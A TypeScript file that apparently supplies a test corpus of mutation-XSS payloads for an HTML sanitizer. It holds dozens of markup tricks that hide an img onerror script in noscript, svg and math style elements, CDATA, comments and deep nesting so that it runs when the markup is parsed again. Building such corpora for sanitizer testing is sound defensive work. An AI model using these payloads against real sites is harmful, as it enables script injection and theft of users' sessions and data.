import type { Tricks } from './hostile.ts';

/** Markup that is harmless where it is first read and something else where it is read again. */
export const mutation: Tricks = ({ url, script }) => {
  const img = `<img src=x onerror='${script}'>`;
  const hidden = img.replaceAll('<', '&lt;').replaceAll('>', '&gt;');
  return {
    noscript: `<noscript><p title="</noscript>${img}"></noscript>`,
    'noembed and noframes': `<noembed><p title="</noembed>${img}"></noembed><noframes><p title="</noframes>${img}"></noframes>`,
    'text area': `<textarea><p title="</textarea>${img}"></textarea>`,
    title: `<title><a title="</title>${img}"></title>`,
    xmp: `<xmp><p title="</xmp>${img}"></xmp>`,
    'style in svg': `<svg></p><style><a id="</style>${img}">`,
    'style in math': `<math><style><a title="</style>${img}"></math>`,
    'glyph in a table': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${hidden}">`,
    'glyph and cdata': `<math><mtext><table><mglyph><style><![CDATA[</style><img title="]]&gt;${hidden}">`,
    'form in a form': `<form><math><mtext></form><form><mglyph><style></math>${img}`,
    'form in a form, svg': `<svg><desc><form></desc></svg><form><svg><style></form>${img}</style></svg>`,
    annotation: `<math><annotation-xml encoding="text/html"><style>${img}</style></annotation-xml></math><math><annotation-xml encoding="application/xhtml+xml"><svg><style>${img}</style></svg></annotation-xml></math>`,
    'annotation that changes': `<math><mi><annotation-xml><!-- --><foo><style><a title="</style>${img}"></math>`,
    'foreign object': `<svg><foreignObject><style><!--</style><p id="-->${img}"></foreignObject></svg>`,
    'title of a picture': `<svg><title><style><!--</style><a title="-->${img}"></title></svg>`,
    'cdata of a picture': `<svg><![CDATA[><image xlink:href="]]>${img}"</svg><svg><desc><![CDATA[</desc>${img}]]></desc></svg>`,
    'template in a list': `<select><template><style><!--</style><a rel="--></style></template></select>${img}">`,
    'list that is left': `<select><option><style></option></select>${img}</style>`,
    'table that is left': `<table><tbody><svg><style></tbody>${img}</table>`,
    'caption that is left': `<table><caption><svg><title><table><caption></caption></table></title><style>${img}</style></svg></caption></table>`,
    'paragraph in a picture': `<svg><p><style><g title="</style>${img}"></svg>`,
    'headings in math': `<math><h1></h1><style><!--</style><img title="--&gt;${hidden}"></math>`,
    'comment that ends early': `<!--><img src=x onerror='${script}'>--><!---><img src=x onerror='${script}'>--><!-- --!>${img}<!-- -->`,
    'comment in a style': `<style><!--</style>${img}<!-- --></style>-->`,
    'comment with nothing': `<!${img}><!x-->${img}</ ${img}><//${img}>`,
    'quotes of old': `<img alt="\`\`onerror='${script}'"><p title="\`onclick=${script}\`">x</p><listing>${hidden}</listing>`,
    'attributes with a slash': `<p/title="a"/onclick="${script}"/>x<img/src="x"/onerror="${script}"/title="y">`,
    'text that looks like markup': `<p>${hidden}</p><pre>&lt;script&gt;${script}&lt;/script&gt;</pre><p title="${hidden}">x</p>`,
    'twice encoded': `<p>&amp;lt;img src=x onerror=${script}&amp;gt;</p><a title="&amp;quot;&amp;gt;${hidden}">x</a>`,
    'as deep as parsers go': `${'<div>'.repeat(508)}<table><math><mi><style>${img}</style></mi></math></table>`,
    'deep foreign elements': `${'<svg><desc>'.repeat(260)}<style><a title="</style>${img}">`,
    'a hundred thousand elements deep': `${'<b>'.repeat(100_000)}x<img src="${url}/deep">`,
    'links within links': `${'<a href="x:y">'.repeat(300)}<table>${'<a title=x>'.repeat(300)}${img}`,
    'elements nobody knows': `<x><y:z foo:bar="${script}"><![endif]-->${img}</y:z></x><math><unknown><style>${img}</style></unknown></math>`,
  };
};
